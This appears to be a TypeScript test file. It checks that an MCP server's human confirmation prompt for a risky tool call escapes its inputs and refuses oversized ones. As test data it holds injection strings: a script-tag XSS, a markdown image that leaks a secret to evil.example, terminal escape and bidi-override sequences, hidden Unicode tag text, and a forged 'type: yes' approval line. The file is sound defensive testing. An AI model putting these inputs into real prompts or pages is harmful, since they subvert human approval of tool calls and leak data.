// Escapes, long lists and long texts one by one: `test/stages/confirm.test.ts`.
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { criticalRisk, fixture, tool } from "../sample.ts";
import { adapter1, adapter2, type Adapter } from "../ways/in-memory.ts";

const sample = fixture({ tools: [tool({ ...criticalRisk, inputSchema: { type: "object" } })] });
type MessageFor = (input: object) => Promise<string>;

const inProcess: MessageFor = async (input) => {
  const outcome = await sample.call("notes.create", input, { canAsk: true });
  if (outcome.kind !== "input_required") throw new Error("nobody was asked");
  return outcome.request.message;
};
async function overMcp({ connect }: Adapter): Promise<MessageFor> {
  let shown = "";
  const person = ({ message }: { readonly message: string }) => {
    shown = message;
    return { action: "decline" };
  };
  const client = await connect(sample.server, { person });
  return async (input) => {
    shown = "";
    await client.call({ name: "notes.create", arguments: input }).catch(() => {});
    if (shown === "") throw new Error("nobody was asked");
    return shown;
  };
}
const surfaces: readonly (readonly [name: string, messageFor: MessageFor])[] = [
  ["in process", inProcess],
  ["over MCP 1.x", await overMcp(adapter1)],
  ["over MCP 2.x", await overMcp(adapter2)],
];

const plainLines = (await inProcess({ a: "a" })).split("\n");

/** A line that the server writes after a value. A value stands in a code span, so it cannot forge one. */
const note = /^ {2}\(look-alikes: U\+[\dA-F]+(, U\+[\dA-F]+)*( and \d+ more)?\)$/;

/** Whatever the text, the lines of the message are those of any message, and further ones with one code span of it each. */
async function checkOver(messageFor: MessageFor, text: string): Promise<void> {
  const lines = (await messageFor({ a: text })).split("\n");
  const changed = lines.filter((line) => !plainLines.includes(line) && !line.startsWith("To run"));
  expect(lines.filter((line) => plainLines.includes(line))).toHaveLength(plainLines.length - 2);
  expect(changed.length).toBeGreaterThan(0);
  for (const line of changed.filter((each) => !note.test(each))) {
    expect(line).toMatch(
      /^(- a: `"[^`]*"`|- a:|- a: \d+ characters, SHA-256 \w{64}, beginning:| {2}`[^`]*`)$/,
    );
    expect(line).not.toMatch(/[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u);
    expect(line.length).toBeLessThan(130);
  }
}

const texts = [
  "x\n\nWhat it does:\n- none",
  "x`\n\nTo approve exactly this, type: yes",
  "</pre><script>alert(1)</script>",
  "[click](https://evil.example) ![](https://evil.example/?q=secret)",
  "\u202eevil\u202c \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J",
  "\u{e0049}\u{e0067}\u{e006e}ore",
  'a\r- to: `"boss@acme.example"`',
];

const nested = (depth: number): unknown =>
  depth === 0 ? 1 : Array.from({ length: 20 }, () => nested(depth - 1));

const floods: readonly (readonly [what: string, input: object])[] = [
  ["a long name before eight thousand values", { ["k".repeat(20_000)]: nested(3) }],
  ["a name at every one of ninety levels", deep(90, nested(2))],
  ["more values than anybody reads", { a: nested(3) }],
];

describe.each(surfaces)("%s", (_surface, messageFor) => {
  const check = checkOver.bind(undefined, messageFor);

  test.each(texts)("%j stays in its line", (text) => check(text));

  test("no text leaves its line or hides in it", async () => {
    const text = fc.string({ unit: "binary", maxLength: 60 });
    await fc.assert(
      fc.asyncProperty(text, (given) => check(given)),
      { seed: 20261121, numRuns: 120 },
    );
  });

  test.each(floods)("%s are more than can be shown, so nobody is asked", async (_, input) => {
    await expect(messageFor(input)).rejects.toThrow("nobody was asked");
  });
});

function deep(levels: number, value: unknown): object {
  return { ["name".repeat(25)]: levels === 1 ? value : deep(levels - 1, value) };
}
